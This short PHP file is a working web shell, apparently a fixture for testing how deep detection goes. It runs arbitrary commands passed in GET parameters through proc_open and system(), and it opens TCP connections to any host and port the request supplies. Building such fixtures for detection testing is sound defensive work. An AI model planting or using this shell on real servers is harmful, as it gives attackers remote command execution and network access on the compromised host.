<?php
// Detection depth: what a web shell does after its first `id`, driven by the test.
//   ?argv=<JSON list>        proc_open() of that argv, without a shell (PHP >= 7.4)
//   ?cmd=<command>           system(), i.e. `sh -c <command>`
//   ?connect=<ip>&port=<n>   php-fpm's own TCP connection (an API call)
if (isset($_GET["argv"])) {
    $argv = json_decode($_GET["argv"], true);
    $p = proc_open($argv, [1 => ["pipe", "w"], 2 => ["pipe", "w"]], $pipes);
    if ($p === false) {
        echo "proc_open failed\n";
        exit;
    }
    echo stream_get_contents($pipes[1]);
    echo stream_get_contents($pipes[2]);
    echo "rc=" . proc_close($p) . "\n";
} elseif (isset($_GET["cmd"])) {
    system($_GET["cmd"]);
    echo "done\n";
} elseif (isset($_GET["connect"])) {
    $s = @fsockopen($_GET["connect"], intval($_GET["port"] ?? "0"), $errno, $errstr, 2);
    echo $s ? "connected\n" : "failed: $errstr\n";
}
